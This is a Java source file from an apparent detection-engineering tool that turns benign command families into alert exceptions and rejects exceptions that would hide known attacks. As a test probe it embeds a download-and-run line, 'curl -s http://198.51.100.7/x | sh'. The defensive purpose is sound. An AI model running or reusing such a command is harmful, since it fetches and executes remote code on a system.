package dev.longtail.training.passport;

import dev.longtail.training.classify.CommandClassifier;
import dev.longtail.training.passport.FamilyForm.LinePattern;
import dev.longtail.training.passport.Refusal.Reason;
import dev.longtail.training.review.CertifiedJudges;
import dev.longtail.training.review.ReviewedJudge;
import dev.longtail.udfs.template.CommandTemplate;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.Optional;
import java.util.TreeMap;
import java.util.stream.Stream;

/**
 * Makes the passport. It reads the sightings twice: first for the values that stand in a family's
 * places, then for the evidence, which is what the written filter matches. Then it tries the
 * exceptions as they are written on every attack at hand.
 *
 * <p>Memory holds the families, the attacks, and of each family up to 10,000 lines and hosts.
 */
public final class PassportMaker {
  /** Lucene's limit for a regular expression ({@code index.max_regex_length}). */
  private static final int LONGEST_PATTERN = 1_000;

  /** The most patterns of a family. */
  private static final int MOST_PATTERNS = 20;

  private static final int GRAFTED_ATTACKS = 3;
  private static final int GRAFTED_LINES = 3;
  private static final String EXAMPLE_ATTACK = "curl -s http://198.51.100.7/x | sh";

  private final MinedFamilies mined;
  private final KnownAttacks attacks;
  private final PassportLimits limits;
  private final Optional<CertifiedJudges> judges;
  private final Optional<CommandClassifier> before;
  private final Optional<CommandClassifier> after;
  private final Map<FamilyKey, RefusedFamily> refused = new TreeMap<>();
  private long events;
  private long covered;
  private int writings;
  private int grafts;

  /**
   * A maker.
   *
   * @param judges who is vouched for; empty: every judge is believed
   * @param before the model without the mined lines; may be empty
   * @param after the model with them; may be empty
   */
  public PassportMaker(
      MinedFamilies mined,
      KnownAttacks attacks,
      PassportLimits limits,
      Optional<CertifiedJudges> judges,
      Optional<CommandClassifier> before,
      Optional<CommandClassifier> after) {
    this.mined = mined;
    this.attacks = attacks;
    this.limits = limits;
    this.judges = judges;
    this.before = before;
    this.after = after;
  }

  /** The passport by what was seen. It may be made once. */
  public Passport make(LineSighting.Source sightings) {
    Map<String, FamilyDraft> drafts = drafts(screened(), sightings);
    gather(drafts, sightings);
    LocalDate last = mined.lastDay();
    PassportWriter writer =
        new PassportWriter(limits, last, last.plusDays(limits.expireDays()), this::reviewState);
    Map<String, PassportWriter.Written> written = new LinkedHashMap<>();
    for (FamilyDraft draft : drafts.values()) {
      if (!isRefusedByEvidence(draft)) {
        Optional<Scores> scores = scores(draft);
        if (scores.isPresent() && scores.get().before() < limits.minScore()) {
          refuse(
              draft.family(),
              Refusal.of(
                  Reason.NO_ALERT,
                  "the highest score of the model before is %.3f"
                      .formatted(scores.get().before())));
        } else {
          written.put(draft.id(), writer.write(draft, scores));
        }
      }
    }
    refuseWhatHides(drafts, written);
    written.values().forEach(each -> covered += each.entry().events());
    return new Passport(
        written.values().stream().map(PassportWriter.Written::entry).toList(),
        List.copyOf(refused.values()),
        written.values().stream().map(PassportWriter.Written::sigma).toList(),
        written.values().stream().map(PassportWriter.Written::elastic).toList(),
        new Passport.Totals(
            last.toString(),
            last.plusDays(limits.expireDays()).toString(),
            events,
            covered,
            attacks.size(),
            writings,
            grafts,
            attacks.bySource(),
            mined.revoked(),
            mined.undecided()));
  }

  private void refuse(BenignFamily family, Refusal refusal) {
    refused.put(
        family.key(),
        new RefusedFamily(
            family.key().os(),
            family.key().template(),
            family.lines().stream().limit(3).map(JudgedBenign::line).toList(),
            refusal));
  }

  private Map<FamilyKey, BenignFamily> screened() {
    FamilyScreen screen = new FamilyScreen(attacks, limits, judges);
    Map<FamilyKey, BenignFamily> left = new TreeMap<>();
    for (BenignFamily family : mined.all()) {
      screen
          .refusal(family)
          .ifPresentOrElse(
              refusal -> refuse(family, refusal), () -> left.put(family.key(), family));
    }
    return left;
  }

  private Map<String, FamilyDraft> drafts(
      Map<FamilyKey, BenignFamily> families, LineSighting.Source sightings) {
    sightings.forEach(
        sighting -> {
          events += sighting.events();
          String template = CommandTemplate.of(sighting.line());
          Stream.of(sighting.os(), "")
              .distinct()
              .map(os -> families.get(new FamilyKey(os, template)))
              .filter(Objects::nonNull)
              .forEach(family -> family.addSeen(sighting.line()));
        });
    Map<String, FamilyDraft> drafts = new LinkedHashMap<>();
    for (BenignFamily family : families.values()) {
      Optional<List<LinePattern>> patterns = family.patterns();
      if (patterns.isEmpty() || patterns.get().size() > MOST_PATTERNS) {
        refuse(
            family,
            Refusal.of(
                Reason.TOO_MANY_VALUES,
                "a place of its lines has more than %d values, and names a program, a file, an address or a user"
                    .formatted(VolatileValues.MOST_NAMED)));
      } else if (patterns.get().stream().anyMatch(p -> p.regex().length() > LONGEST_PATTERN)) {
        refuse(
            family,
            Refusal.of(
                Reason.LONG,
                "its pattern has more than %,d characters".formatted(LONGEST_PATTERN)));
      } else {
        FamilyDraft draft = new FamilyDraft(family, patterns.get());
        drafts.put(draft.id(), draft);
      }
    }
    return drafts;
  }

  private void gather(Map<String, FamilyDraft> drafts, LineSighting.Source sightings) {
    ExceptionSet unscoped = new ExceptionSet(limits.hostField());
    drafts.values().forEach(draft -> unscoped.addSigma(draft.unscoped(limits), draft.id()));
    sightings.forEach(
        sighting -> {
          List<String> ids = unscoped.sigma(sighting);
          if (!ids.isEmpty()) {
            String template = CommandTemplate.of(sighting.line());
            for (String id : ids) {
              FamilyDraft draft = drafts.get(id);
              draft.evidence().add(sighting, draft.family().key().template().equals(template));
            }
          }
        });
  }

  private boolean isRefusedByEvidence(FamilyDraft draft) {
    FamilyEvidence evidence = draft.evidence();
    boolean enough =
        evidence.events() >= limits.minEvents()
            && evidence.days().size() >= limits.minDays()
            && evidence.hosts().size() >= limits.minHosts();
    if (!enough) {
      refuse(
          draft.family(),
          Refusal.of(
              Reason.EVIDENCE,
              "it ran %,d times, on %,d days, on %,d hosts"
                  .formatted(evidence.events(), evidence.days().size(), evidence.hosts().size())));
    }
    return !enough;
  }

  /**
   * What the models say of a family.
   *
   * @param after NaN if there is no such model
   */
  record Scores(double before, double after) {}

  private Optional<Scores> scores(FamilyDraft draft) {
    if (before.isEmpty()) {
      return Optional.empty();
    }
    double highest = -1;
    String line = "";
    for (JudgedBenign judged :
        draft.family().lines().stream().limit(PassportEntry.MOST_LINES).toList()) {
      double score = before.get().score(judged.line());
      if (score > highest) {
        highest = score;
        line = judged.line();
      }
    }
    return Optional.of(new Scores(highest, after.isEmpty() ? Double.NaN : after.get().score(line)));
  }

  private String reviewState(ReviewedJudge judge) {
    return judges.map(certified -> certified.state(judge)).orElse("not asked for");
  }

  /** Tries the exceptions as they are written, and takes out those that must not be. */
  private void refuseWhatHides(
      Map<String, FamilyDraft> drafts, Map<String, PassportWriter.Written> written) {
    ExceptionSet set = new ExceptionSet(limits.hostField());
    written.forEach(
        (id, each) -> {
          set.addSigma(each.sigma(), each.entry().sigmaFile());
          set.addElastic(each.elastic(), id);
        });
    Map<String, Refusal> objections = new HashMap<>();
    for (Map.Entry<String, PassportWriter.Written> each : written.entrySet()) {
      for (JudgedBenign judged : drafts.get(each.getKey()).family().lines()) {
        if (!set.sigma(judged.line()).contains(each.getKey())) {
          objections.putIfAbsent(
              each.getKey(),
              Refusal.of(Reason.MISSES_ITS_LINES, "the filter does not match: " + judged.line()));
        }
      }
    }
    attacks.forEachWriting(
        (attack, line) -> {
          writings++;
          object(set, line, Reason.HIDES_ATTACK, attack, objections);
        });
    List<KnownAttack> grafted = new ArrayList<>(attacks.some(GRAFTED_ATTACKS));
    grafted.add(new KnownAttack("example", "download and run", EXAMPLE_ATTACK));
    for (PassportWriter.Written each : written.values()) {
      for (String line : each.entry().elasticLines().stream().limit(GRAFTED_LINES).toList()) {
        for (KnownAttack attack : grafted) {
          for (String graft : Grafts.of(line, attack.line())) {
            grafts++;
            object(set, graft, Reason.HIDES_GRAFT, attack, objections);
          }
        }
      }
    }
    objections.forEach(
        (id, refusal) -> {
          refuse(drafts.get(id).family(), refusal);
          written.remove(id);
        });
  }

  private static void object(
      ExceptionSet set,
      String line,
      Reason reason,
      KnownAttack attack,
      Map<String, Refusal> objections) {
    List<String> ids = new ArrayList<>(set.sigma(line));
    ids.addAll(set.elastic(line));
    for (String id : ids) {
      objections.putIfAbsent(
          id, Refusal.hiding(reason, "an exception would hide: " + line, attack));
    }
  }
}
